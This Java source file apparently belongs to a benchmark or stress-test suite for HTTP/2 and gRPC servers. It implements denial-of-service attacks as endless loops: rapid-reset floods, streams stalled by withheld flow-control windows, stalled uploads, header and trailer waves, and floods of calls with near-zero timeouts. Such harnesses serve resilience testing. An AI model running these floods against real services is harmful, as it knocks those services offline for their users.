package dev.holdfast.bench.attacks;

import java.io.IOException;
import java.util.concurrent.TimeUnit;

/** The attacks whose calls cost more than their requests suggest. */
final class CallAttacks {
  /** The number of concurrent streams, which is as many as proxies permit. */
  private static final int STREAMS = 96;

  private static final int STALLED_STREAMS = 80;
  private static final int STALLED_SECONDS = 2;
  private static final int ANSWER_BYTES = 1 << 18;
  private static final int PIECE_BYTES = 16_384;
  private static final int RESETS_AT_ONCE = 512;
  private static final int UPLOADS_EACH = 120;
  private static final int UPLOAD_BYTES = 60_000;

  private CallAttacks() {}

  /** The upstream echoes what it is sent. */
  static void stalledStreams(AttackTarget attackTarget) throws IOException, InterruptedException {
    while (true) {
      try (Http2Client client = attackTarget.http2WithoutWindow()) {
        client.awaitSettings();
        for (int i = 0; i < STALLED_STREAMS; i++) {
          int stream = client.stream();
          begin(client, stream, Http2Frames.call(AttackTarget.CALL), false);
          // A message with one field of bytes: its number and type, its length as a varint of three
          // bytes, of which the first two hold bits that are zero in a power of two this large.
          byte[] head = {(1 << 3) | 2, (byte) 0x80, (byte) 0x80, (byte) (ANSWER_BYTES >> 14)};
          byte[] prefix = Http2Frames.prefix(head.length + ANSWER_BYTES);
          data(client, stream, Http2Frames.joined(prefix, head), false);
          byte[] piece = new byte[PIECE_BYTES];
          for (int left = ANSWER_BYTES; left > 0; left -= PIECE_BYTES) {
            data(client, stream, piece, left == PIECE_BYTES);
          }
        }
        TimeUnit.SECONDS.sleep(STALLED_SECONDS);
      }
    }
  }

  static void refusedHeaders(AttackTarget attackTarget) throws IOException, InterruptedException {
    byte[] refused = Http2Frames.call(AttackTarget.CALL, "x-note", " lead");
    waves(attackTarget, refused, new byte[0]);
  }

  static void requestTrailers(AttackTarget attackTarget) throws IOException, InterruptedException {
    byte[] trailers =
        Http2Frames.frame(
            Http2Frames.HEADERS,
            Http2Frames.END_HEADERS | Http2Frames.END_STREAM,
            1,
            Http2Frames.block("x-note", "last"));
    waves(attackTarget, Http2Frames.call(AttackTarget.CALL), trailers);
  }

  /** Whole calls, as many at once as may be; what ends them is DATA if nothing else is said. */
  private static void waves(AttackTarget attackTarget, byte[] headers, byte[] last)
      throws IOException, InterruptedException {
    int end = last.length == 0 ? Http2Frames.END_STREAM : 0;
    byte[] call =
        Http2Frames.joined(
            Http2Frames.frame(Http2Frames.HEADERS, Http2Frames.END_HEADERS, 1, headers),
            Http2Frames.frame(Http2Frames.DATA, end, 1, Http2Frames.prefix(0)),
            last);
    byte[] wave = Http2Frames.repeated(call, STREAMS);
    try (Http2Client client = attackTarget.http2()) {
      client.awaitSettings();
      int made = 0;
      while (true) {
        for (int i = 0; i < STREAMS; i++) {
          int stream = client.stream();
          Http2Frames.move(wave, i * call.length, (i + 1) * call.length, stream);
          client.awaitWindow(stream, Http2Frames.prefix(0).length);
        }
        client.write(wave, wave.length, STREAMS);
        made += STREAMS;
        client.awaitEnded(made);
      }
    }
  }

  static void rapidResets(AttackTarget attackTarget) throws IOException, InterruptedException {
    flood(
        attackTarget,
        Http2Frames.joined(
            Http2Frames.frame(
                Http2Frames.HEADERS,
                Http2Frames.END_HEADERS,
                1,
                Http2Frames.call(AttackTarget.CALL)),
            Http2Frames.frame(
                Http2Frames.RST_STREAM, 0, 1, Http2Frames.number(Http2Frames.CANCEL))),
        Integer.MAX_VALUE);
  }

  static void noTime(AttackTarget attackTarget) throws IOException, InterruptedException {
    byte[] headers = Http2Frames.call(AttackTarget.CALL, "grpc-timeout", "1n");
    flood(
        attackTarget,
        Http2Frames.frame(Http2Frames.HEADERS, Http2Frames.END_HEADERS, 1, headers),
        STREAMS);
  }

  /** Calls without an end, not more of them open than that. */
  private static void flood(AttackTarget attackTarget, byte[] call, int open)
      throws IOException, InterruptedException {
    int many = Math.min(open, RESETS_AT_ONCE);
    byte[] batch = Http2Frames.repeated(call, many);
    try (Http2Client client = attackTarget.http2()) {
      client.awaitSettings();
      int made = 0;
      while (true) {
        for (int i = 0; i < many; i++) {
          int stream = client.stream();
          Http2Frames.move(batch, i * call.length, (i + 1) * call.length, stream);
          if (open == Integer.MAX_VALUE) {
            client.forget(stream);
          }
        }
        client.write(batch, batch.length, many);
        made += many;
        if (open < Integer.MAX_VALUE) {
          client.awaitEnded(made);
        }
      }
    }
  }

  static void stalledUploads(AttackTarget attackTarget) throws IOException, InterruptedException {
    try (Http2Client client = attackTarget.http2()) {
      client.awaitSettings();
      for (int i = 0; i < UPLOADS_EACH; i++) {
        int stream = client.stream();
        begin(client, stream, Http2Frames.call(AttackTarget.CALL), false);
        data(client, stream, Http2Frames.prefix(1 << 21), false);
        for (int sent = 0; sent < UPLOAD_BYTES; sent += PIECE_BYTES) {
          data(client, stream, new byte[Math.min(PIECE_BYTES, UPLOAD_BYTES - sent)], false);
        }
      }
      client.awaitEnd();
    }
  }

  private static void begin(Http2Client client, int stream, byte[] headers, boolean end)
      throws IOException {
    int flags = Http2Frames.END_HEADERS | (end ? Http2Frames.END_STREAM : 0);
    byte[] frame = Http2Frames.frame(Http2Frames.HEADERS, flags, stream, headers);
    client.write(frame, frame.length, 1);
  }

  private static void data(Http2Client client, int stream, byte[] data, boolean end)
      throws IOException, InterruptedException {
    if (client.awaitWindow(stream, data.length)) {
      byte[] frame =
          Http2Frames.frame(Http2Frames.DATA, end ? Http2Frames.END_STREAM : 0, stream, data);
      client.write(frame, frame.length, 1);
    }
  }
}
